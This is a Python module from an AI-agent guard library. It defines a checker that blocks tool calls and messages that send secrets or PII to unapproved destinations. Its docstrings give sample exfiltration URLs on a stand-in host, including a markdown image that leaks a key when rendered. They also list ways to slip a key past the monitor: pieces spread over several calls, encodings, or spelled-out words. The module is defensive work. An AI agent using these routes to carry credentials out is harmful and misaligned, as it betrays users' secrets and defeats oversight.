"""SecretLeakGuard: no key, token, private key or chosen PII leaves in a call to someone not allowed it.

Each proposal (a tool call's arguments, or a text message the agent writes) is scanned by a
:class:`~agentguard.policies.secrets.LeakScanner`. Every finding is then judged by where the call sends
it and where the value came from:

- **destination** (an allow-list; the default for an unknown tool is ``third_party``): ``user`` for
  the tools in ``user_tools`` and for text messages (``text_destination``), ``internal`` for
  ``internal_tools``, ``third_party`` for everything else. Tool names are compared in canonical form
  with the same pattern compiler as every other rule (:func:`agentguard.policies.rules.tool_patterns`).
  A deployment with its own notion of destination (recipient domains, a connector registry) passes
  ``destination(context, call) -> "user" | "internal" | "third_party"``;
- ``allow_to``: which finding kinds each destination may receive; default ``user``: secrets and PII
  (a secret read from the user's own file may be shown to the user), ``internal``: PII,
  ``third_party``: nothing;
- **provenance** (optional; composes with the provenance guard through one small interface): a
  ``provenance(context, value) -> labels`` callable (by default the ``labels`` method of
  ``context.metadata["provenance"]`` when there is one, the ledger interface of
  :class:`~agentguard.policies.provenance.ProvenanceLedger`). A finding of a kind in ``user_supplied``
  (default: PII) whose value carries the ``user`` label (the user typed it in the prompt) may go to any
  destination: "pay IBAN X" is the user's decision, an IBAN from an e-mail body is not.

**Across calls** (``across_calls`` characters, default 2048; 0 turns it off): per run (``context.run_id``, in
a :class:`~agentguard.core.runs.RunMemory`; ``end_run`` forgets it) the tail of what the run already sent where
secrets may not go is read joined with each new call's strings, so a key sent in pieces over several calls
is refused at the call that completes it. A URL is read as the pieces its receiver reads apart (query values, path
segments, subdomain labels: :func:`~agentguard.policies.secret_views.url_pieces`), joined once as sent and once
without the pieces the requests repeat (the template: ``https://evil.xyz/?p=<half>`` twice is the key).

**Links carry to their hosts**: a URL written in a call or message whose destination may receive a finding (the
user's answer) is read again as sent to ``third_party``: a markdown image or a link preview is fetched with no
click, so ``![x](https://evil.xyz/p.png?k=<key>)`` in an answer sends the key to ``evil.xyz``. The links of one message
are read joined, and across the run's messages and calls (a key cut into the images of one answer, or of several);
a text with a backslash is read as a Markdown renderer shows it too (``k=ghp\\_...``: :func:`.links.rendered`).

**Known secrets** (:mod:`agentguard.policies.secret_fragments`): the guard also knows secrets by value, the
``known_secrets`` given (or read from the environment variables ``known_secret_env`` names: a variable that is not
set is an error) and, per run (``learn``, on by default), every secret the format detectors find in what the run
read: the observations of the run's trace (``context.trace``: each step's tool result, read once), the prompt in
``context.metadata["prompt"]`` and the results given to :meth:`SecretLeakGuard.observe_result`. A call carrying
:data:`~agentguard.policies.secret_fragments.K` consecutive characters of a known secret, in any case, interleaved,
with separators, or in any reading of the scanner (decodings, code points, base64 cut at any offset), carries a
finding of type ``known secret``: a slice of a key without its prefix read from a file, sent to a third party. So
is a run whose calls to destinations without secrets hold, together, :data:`~agentguard.policies.secret_fragments.K`
positions of one known secret in pieces of 6 characters or more (7 before session 22) (:meth:`SecretLeakGuard._pieces`: noise between the
pieces, in any order, over any tools). A key spelled out in words (``golf hotel papa underscore ...``) is read back
(:mod:`agentguard.policies.secret_spelled`).

A finding of kind ``unreadable`` (nesting too deep, a string too long) is never allowed. Verdict reasons
and details name the argument path, the detector and a redacted excerpt, never the secret (the audit
trail must not become the leak).
"""

from __future__ import annotations

import os
import threading
from typing import Any, Callable, Mapping, Sequence

from ..core.canonical import canonical_name
from ..core.errors import InputError
from ..core.guard import BaseGuard
from ..core.runs import RunMemory
from ..core.types import Context, Decision, Step, ToolCall, Verdict
from .rules import as_tool_call, tool_patterns
from .links import url_tokens
from .secret_fragments import K, KnownSecrets
from .secrets import DEFAULT_PII, DEFAULT_PLUGINS, Finding, LeakScanner, fields_of, pieces, string_leaves, varying

__all__ = ["DESTINATIONS", "SecretLeakGuard"]

DESTINATIONS = ("user", "internal", "third_party")
_KINDS = ("secret", "pii")
_DEFAULT_ALLOW = {"user": ("secret", "pii"), "internal": ("pii",), "third_party": ()}

Destination = Callable[[Context, ToolCall], str]
Provenance = Callable[[Context, str], Any]


def _metadata_provenance(context: Context, value: str) -> frozenset[str]:
    """Labels from ``context.metadata["provenance"]`` (anything with ``labels(value)``), else none."""
    led = context.metadata.get("provenance") if isinstance(context.metadata, Mapping) else None
    fn = getattr(led, "labels", None)
    return frozenset(fn(value)) if callable(fn) else frozenset()


class _Sent:
    """What one run sent where secrets may not go: the tail of its text and the values already judged."""

    __slots__ = ("calls", "covered", "fields", "known", "learned", "lock", "prompt", "steps", "tail", "values")

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.tail = ""
        self.values: set[str] = set()
        self.calls: list[list[str]] = []   # the pieces of each call sent (the last ones, as many as the tail holds)
        self.fields: list[dict[str, list[str]]] = []   # the query values of each of those calls, by field
        self.known: KnownSecrets | None = None   # the guard's known secrets and what this run read (once it read one)
        self.learned: set[str] = set()
        self.covered: dict[str, set[int]] = {}   # the positions of each known secret sent in pieces (_pieces)
        self.steps = 0                           # trace steps already read for secrets
        self.prompt = False


class SecretLeakGuard(BaseGuard):
    """Refuse calls and messages that carry a secret or PII to a destination not allowed it (see module doc)."""

    def __init__(self, *, name: str = "secret-leak", scanner: LeakScanner | None = None,
                 plugins: Sequence[str] | str = DEFAULT_PLUGINS, pii: Sequence[str] = DEFAULT_PII,
                 extra_patterns: Mapping[str, str] | None = None, decode: bool = True,
                 user_tools: Sequence[str] | str = (), internal_tools: Sequence[str] | str = (),
                 allow_to: Mapping[str, Sequence[str]] | None = None, user_supplied: Sequence[str] = ("pii",),
                 text_destination: str = "user", destination: Destination | None = None,
                 provenance: Provenance | None = _metadata_provenance,
                 decision: Decision | str = Decision.REJECT, across_calls: int = 2048, max_runs: int = 10_000,
                 known_secrets: Sequence[str] = (), known_secret_env: Sequence[str] = (), learn: bool = True,
                 window: int = K) -> None:
        self.name = name
        env = [known_secret_env] if isinstance(known_secret_env, str) else list(known_secret_env)
        unset = [v for v in env if not os.environ.get(str(v))]
        if unset:
            raise InputError(f"{name}.known_secret_env: environment variable(s) {', '.join(map(str, unset))} not set")
        given = [known_secrets] if isinstance(known_secrets, str) else list(known_secrets)
        self.known = KnownSecrets([*map(str, given), *(os.environ[str(v)] for v in env)], k=window)
        self.learn = bool(learn)
        if isinstance(across_calls, bool) or not isinstance(across_calls, int) or across_calls < 0:
            raise InputError(f"{name}.across_calls must be a non-negative number of characters, got {across_calls!r}")
        self.across_calls = across_calls
        self.runs: RunMemory[_Sent] = RunMemory(_Sent, max_runs)
        self.scanner = scanner or LeakScanner(plugins=plugins, pii=pii, extra_patterns=extra_patterns, decode=decode)
        self.decision = Decision.parse(decision)
        if not self.decision.refuses:
            raise InputError(f"{name}: decision must block (REJECT, ESCALATE or HALT), not {self.decision.name}")
        self._user = tool_patterns(user_tools, f"{name}.user_tools")
        self._internal = tool_patterns(internal_tools, f"{name}.internal_tools")
        allow = dict(_DEFAULT_ALLOW if allow_to is None else allow_to)
        bad = [k for k in allow if k not in DESTINATIONS] + [
            f"{k}:{x}" for k, v in allow.items() for x in ([v] if isinstance(v, str) else v) if x not in _KINDS]
        if bad:
            raise InputError(f"{name}.allow_to: unknown destination or kind {', '.join(bad)} "
                             f"(destinations {', '.join(DESTINATIONS)}; kinds {', '.join(_KINDS)})")
        self.allow_to = {d: frozenset([allow[d]] if isinstance(allow.get(d), str) else allow.get(d, ()))
                         for d in DESTINATIONS}
        if any(k not in _KINDS for k in user_supplied):
            raise InputError(f"{name}.user_supplied: kinds are {', '.join(_KINDS)}, got {list(user_supplied)}")
        self.user_supplied = frozenset(user_supplied)
        if text_destination not in DESTINATIONS:
            raise InputError(f"{name}.text_destination must be one of {', '.join(DESTINATIONS)}")
        self.text_destination = text_destination
        self._destination = destination
        self._provenance = provenance

    @classmethod
    def from_config(cls, params: Mapping[str, Any]) -> "SecretLeakGuard":
        """The keyword arguments from a ``[[guards]]`` table (``type = "secret-leak"``); callables
        (``destination``, ``provenance``) are code-only."""
        known = {"name", "plugins", "pii", "extra_patterns", "decode", "user_tools", "internal_tools", "allow_to",
                 "user_supplied", "text_destination", "decision", "across_calls", "max_runs", "known_secrets",
                 "known_secret_env", "learn", "window"}
        unknown = sorted(set(params) - known)
        if unknown:
            raise InputError(f"unknown key(s) {', '.join(unknown)} for a secret-leak guard (known: {', '.join(sorted(known))})")
        return cls(**dict(params))

    def destination(self, context: Context, call: ToolCall) -> str:
        """Where ``call`` sends its arguments: ``user``, ``internal`` or ``third_party`` (the default)."""
        if self._destination is not None:
            d = self._destination(context, call)
            if d not in DESTINATIONS:
                raise InputError(f"{self.name}: destination classifier returned {d!r}, not one of {DESTINATIONS}")
            return str(d)
        n = canonical_name(call.name)
        if self._user is not None and self._user.match(n):
            return "user"
        if self._internal is not None and self._internal.match(n):
            return "internal"
        return "third_party"

    def _allowed(self, context: Context, f: Finding, dest: str) -> bool:
        if f.kind not in _KINDS:
            return False
        if f.kind in self.allow_to[dest]:
            return True
        if f.kind in self.user_supplied and self._provenance is not None and f.value:
            return "user" in self._provenance(context, f.value)
        return False

    def _across_calls(self, context: Context, call: ToolCall, found: list[Finding], dest: str,
                      known: KnownSecrets | None = None) -> list[Finding]:
        """A key sent in pieces over several calls of one run: the text this run already sent where secrets may
        not go (its last ``across_calls`` characters) is read joined with this call's strings; a finding there
        that neither this call nor an earlier one showed on its own is a leak. An allowed call's text is added."""
        if not self.across_calls:
            return []
        try:
            sent = self.runs.get(context.run_id)
        except Exception as exc:  # noqa: BLE001 - an evicted run cannot be read: not read is not allowed
            return [Finding("unreadable", f"run memory: {type(exc).__name__}", "<across calls>", "")]
        parts = pieces(call.arguments)   # a URL's query values, path segments, labels: what its receiver reads
        fields = fields_of(string_leaves(call.arguments))   # and its query values by field
        text = "".join(parts)
        with sent.lock:
            *before, now = varying([*sent.calls, parts])   # without the template the requests repeat (as the
            prev = "".join(p for c in before for p in c)   # receiver joins them)
            texts = [sent.tail + text, text + sent.tail, prev + "".join(now), "".join(now) + prev]
            for name, vals in fields.items():   # one field's values over the requests, whatever else varies
                if (old := "".join(v for f in sent.fields for v in f.get(name, ()))):
                    texts += [old + "".join(vals), "".join(vals) + old]
            joined = list({f.value: f for t in texts  # a later piece may come first
                           for f in self.scanner.scan_text(t, "<across calls>", full=False, known=known)}.values()
                          ) if sent.tail and text else []
            new = [f for f in joined if f.value not in sent.values and all(f.value != g.value for g in found)]
            leaks = [f for f in new if not self._allowed(context, f, dest)]
            if not leaks:
                sent.tail = (sent.tail + text)[-self.across_calls:]
                sent.calls.append(parts)
                sent.fields.append(fields)
                while sum(len(p) for c in sent.calls for p in c) > self.across_calls:
                    sent.calls.pop(0)
                    sent.fields.pop(0)
                sent.values.update(f.value for f in [*found, *joined])
        return leaks

    def _pieces(self, context: Context, view: KnownSecrets) -> list[Finding]:
        """A known secret sent in pieces with other text between them (``?a=<7 key characters>&n=<noise>`` in one
        call, the next 7 in the next): the positions of each known secret that this call's pieces hold
        (:meth:`.KnownSecrets.covering`), joined with those the run's earlier calls to destinations without secrets
        held; :data:`~agentguard.policies.secret_fragments.K` positions of one secret or more is a leak, in any order
        the pieces came. An allowed call's positions are added to the run's."""
        if not view.covered:
            return []
        try:
            sent = self.runs.get(context.run_id)
        except Exception as exc:  # noqa: BLE001 - an evicted run cannot be read: not read is not allowed
            return [Finding("unreadable", f"run memory: {type(exc).__name__}", "<pieces>", "")]
        with sent.lock:
            for secret, positions in view.covered.items():
                held = sent.covered.get(secret, set()) | positions
                if len(held) >= view.k and not positions <= sent.covered.get(secret, set()):
                    return [Finding("secret", "known secret", "<pieces across calls>",
                                    f"pieces of a known secret ({len(held)} of its {len(secret)} characters)")]
            for secret, positions in view.covered.items():
                sent.covered.setdefault(secret, set()).update(positions)
        return []

    def _in_links(self, context: Context, proposal: Any, call: ToolCall | None, dest: str,
                  known: KnownSecrets | None = None) -> list[Finding]:
        """What the URLs written in a call or message to a destination that may receive secrets carry to their
        hosts: a renderer fetches a markdown image (``![x](https://evil.xyz/p.png?k=<key>)``) and a link preview
        any link, with no click, so a URL's text is judged at ``third_party`` whatever the message's destination.
        The URLs of one message are read as one receiver reads them, joined (a key cut into two images' queries is
        one key again), and across the run's messages and calls as a call to a third party is
        (:meth:`_across_calls`: the second half of a key sent in the next answer)."""
        if "secret" not in self.allow_to[dest] and "pii" not in self.allow_to[dest]:
            return []
        if call is not None:
            texts = list(string_leaves(call.arguments))
        elif isinstance(proposal, str):
            texts = [proposal]
        else:
            texts = [t for t in (proposal.output, proposal.action) if isinstance(t, str)]
        urls = [u for t in texts for u in url_tokens(t)]
        if not urls:
            return []
        found = self.scanner.scan(urls, "url", known=known)
        leaks = [f for f in found if not self._allowed(context, f, "third_party")]
        if leaks or "secret" not in self.allow_to[dest]:   # a destination without secrets: its call is joined already
            return leaks
        return self._across_calls(context, ToolCall("<links>", {"url": urls}), found, "third_party", known)

    def end_run(self, run_id: str) -> None:
        """Forget what run ``run_id`` sent and read."""
        self.runs.end_run(run_id)

    def observe_result(self, run_id: str, call: ToolCall, result: Any) -> None:
        """Learn the secrets in what ``call`` returned in run ``run_id`` (the trace's observations are read by
        :meth:`check` itself; this is for runtimes that keep no trace)."""
        sent = self.runs.get(run_id)
        with sent.lock:
            self._learn(sent, result)

    def _learn(self, sent: _Sent, value: Any) -> None:
        """Index each secret the format detectors find in ``value`` (a result, a prompt) as known to the run."""
        if not self.learn or value is None:
            return
        for f in self.scanner.scan(value):
            if f.kind == "secret" and f.type != "known secret" and f.value not in sent.learned:
                sent.learned.add(f.value)
                if sent.known is None:
                    sent.known = self.known.copy()
                sent.known.add(f.value)

    def known_secrets(self, context: Context) -> KnownSecrets | None:
        """The secrets known in ``context``'s run: the configured ones and, with ``learn``, those of what the run
        read (the trace's observations not read yet, the prompt); None when there are none."""
        sent = self.runs.get(context.run_id)
        with sent.lock:
            if self.learn:
                prompt = context.metadata.get("prompt") if isinstance(context.metadata, Mapping) else None
                if isinstance(prompt, str) and not sent.prompt:
                    sent.prompt = True
                    self._learn(sent, prompt)
                steps = context.trace.steps
                for step in steps[sent.steps:]:
                    self._learn(sent, step.observation)
                sent.steps = max(sent.steps, len(steps))
            known = sent.known if sent.known is not None else self.known
        return known if len(known) else None

    def check(self, context: Context, proposal: Any) -> Verdict:
        call = as_tool_call(proposal)
        known = self.known_secrets(context)
        pieces_of: KnownSecrets | None = None
        if call is not None:
            dest, what = self.destination(context, call), f"{call.name}"
            if known is not None and "secret" not in self.allow_to[dest]:
                pieces_of = known.covering()   # records the pieces of known secrets this call's readings hold
            found = self.scanner.scan(call.arguments, known=pieces_of or known)
        elif isinstance(proposal, str):
            dest, what, found = self.text_destination, "message", self.scanner.scan_text(proposal, "text", known=known)
        elif isinstance(proposal, Step) and isinstance(proposal.action, (str, type(None))):
            # a step's text: its output chunk and a textual action (an embodied agent's "find Pot")
            texts = {"output": proposal.output, "action": proposal.action}
            dest, what = self.text_destination, "message"
            found = self.scanner.scan({k: v for k, v in texts.items() if isinstance(v, str)}, known=known)
        else:
            return Verdict(self.decision, f"cannot read a proposal of type {type(proposal).__name__}", self.name)
        leaks = [f for f in found if not self._allowed(context, f, dest)] + self._in_links(context, proposal, call, dest,
                                                                                          known)
        if call is not None and not leaks and "secret" not in self.allow_to[dest]:
            leaks = self._across_calls(context, call, found, dest, known)
        if pieces_of is not None and not leaks:
            leaks = self._pieces(context, pieces_of)
        if not leaks:
            return Verdict.allow(self.name, f"{len(found)} finding(s), all allowed to {dest}" if found else "clean")
        items = [{"kind": f.kind, "type": f.type, "path": f.path, "excerpt": f.redacted()} for f in leaks]
        f = leaks[0]
        why = (f"{what} argument '{f.path}' is unreadable ({f.type})" if f.kind == "unreadable" else
               f"{what} carries a {f.type} ({f.kind}, {f.redacted()}) in '{f.path}' to {dest.replace('_', ' ')}")
        more = f" and {len(leaks) - 1} more" if len(leaks) > 1 else ""
        return Verdict(self.decision, why + more, self.name, details={"leaks": items, "destination": dest})
